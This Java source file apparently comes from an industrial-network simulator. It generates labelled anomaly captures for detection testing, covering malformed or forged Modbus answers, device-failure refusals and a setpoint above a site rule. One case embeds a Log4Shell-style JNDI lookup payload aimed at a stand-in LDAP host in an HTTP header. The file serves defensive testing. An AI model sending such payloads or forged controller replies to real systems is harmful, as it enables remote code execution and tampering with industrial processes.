package io.otus.simulator.kinds;

import static io.otus.simulator.kinds.Cell.LATER;
import static io.otus.simulator.kinds.Cell.LEARNED;

import io.otus.simulator.protocol.Modbus;
import io.otus.simulator.wire.ByteWriter;
import io.otus.simulator.wire.TcpSession;
import io.otus.simulator.wire.TcpSession.Side;

/** Bytes that break a rule, be it that of a standard, of a connection, of a device or of the site. */
final class Broken {
    private static final int WEB = 80;
    private static final int DEVICE_FAILURE = 4;

    private Broken() {}

    /** A historian that reads over a connection of its own, each ten seconds. */
    private static final class Reader {
        private final Cell cell = Cell.working();
        private final TcpSession session;
        private int transaction;

        Reader() {
            session = new TcpSession(
                    cell.historian,
                    51_000,
                    cell.controller,
                    Modbus.PORT,
                    77,
                    cell.stage().recorder());
            cell.at(12, session::open);
            cell.every(13, 10, this::read);
        }

        private void read(long now) {
            transaction++;
            turn(now, Modbus.read(3, 0, 2), Modbus.registers(3, 600 + transaction % 9, 400 + transaction % 7));
        }

        void turn(long now, byte[] question, byte[] answer) {
            session.send(Side.CLIENT, now, Modbus.adu(transaction, 1, question));
            session.send(Side.SERVER, session.lastNanos() + Cell.MILLISECOND, Modbus.adu(transaction, 1, answer));
        }
    }

    static KindCapture wrongCount() {
        Reader reader = new Reader();
        byte[] broken = new ByteWriter().hex("03 05 0258 0190").toByteArray();
        reader.cell.at(LATER, now -> reader.turn(now, Modbus.read(3, 0, 2), broken));
        return KindCapture.of(reader.cell, "an answer says that it has another number of bytes than it has");
    }

    static KindCapture cutInTwo() {
        Reader reader = new Reader();
        reader.cell.at(LATER, _ -> reader.session.segmentSize(7));
        return KindCapture.of(reader.cell, "requests and answers come in several segments each");
    }

    private static KindCapture repeated(boolean isOther, String text) {
        Reader reader = new Reader();
        reader.cell.every(LATER + 3.0, 30, now -> {
            reader.transaction++;
            byte[] question = Modbus.adu(reader.transaction, 1, Modbus.read(3, 0, 2));
            byte[] answer = Modbus.adu(reader.transaction, 1, Modbus.registers(3, 600, 400));
            reader.session.send(Side.CLIENT, now, question);
            reader.session.send(Side.SERVER, now + Cell.MILLISECOND, answer);
            long again = now + 2 * Cell.MILLISECOND;
            if (isOther) {
                byte[] forged = Modbus.adu(reader.transaction, 1, Modbus.registers(3, 90, 90));
                reader.session.contradict(Side.SERVER, again, forged);
            } else {
                reader.session.retransmit(again);
            }
        });
        return KindCapture.of(reader.cell, text);
    }

    static KindCapture contradicted() {
        return repeated(true, "answers come twice with the same sequence numbers and other values");
    }

    static KindCapture sentAgain() {
        return repeated(false, "answers come twice, as their acknowledgement was lost");
    }

    private static KindCapture page(String agent, String text) {
        Cell cell = Cell.working();
        for (int second = 300; second < LEARNED; second += 300) {
            cell.at(second, now -> page(cell, now, "Trends/4"));
        }
        cell.at(LATER, now -> page(cell, now, agent));
        return KindCapture.of(cell, text);
    }

    private static void page(Cell cell, long now, String agent) {
        cell.talk(
                now,
                cell.engineering,
                cell.historian,
                WEB,
                ">GET /trends HTTP/1.1|Host: historian|User-Agent: " + agent + '|',
                "<HTTP/1.1 200 OK|Content-Length: 402||" + "mill ".repeat(80));
    }

    static KindCapture lookup() {
        return page(
                "${${lower:j}ndi:ldap://203.0.113.5/a}",
                "the header of a request has a lookup that a faulty library carries out");
    }

    static KindCapture template() {
        return page(
                "${browser:-Trends}/4 ${env}",
                "the header of a request has braces of a template that was not filled in");
    }

    private static KindCapture refusals(int from, String text) {
        Reader reader = new Reader();
        reader.cell.every(from, 20, now -> {
            reader.transaction++;
            reader.turn(now, Modbus.read(3, 0, 2), Modbus.exception(3, DEVICE_FAILURE));
        });
        return KindCapture.of(reader.cell, text).since(from);
    }

    static KindCapture refused() {
        return refusals(
                LATER, "a controller says again and again that it failed, when it is asked for what it always told");
    }

    static KindCapture alwaysRefused() {
        return refusals(69, "a controller says again and again that it failed, as it did while that was learned");
    }

    private static KindCapture ruled(int level, String text) {
        Cell cell = Cell.working();
        cell.at(LATER, now -> cell.panelAsks(now, Modbus.writeRegister(Cell.SETPOINT, level)));
        String rule = """
            rules:
              - id: level-limit
                title: the level was set above its limit
                when: protocol == "modbus" and action == "write" and index == 100 and value > 640
            """;
        return KindCapture.of(cell, text).list("custom_rules", rule);
    }

    static KindCapture aboveTheLimit() {
        return ruled(641, "a level is set above the limit that a rule of the site names");
    }

    static KindCapture atTheLimit() {
        return ruled(640, "a level is set to the limit that a rule of the site names");
    }
}
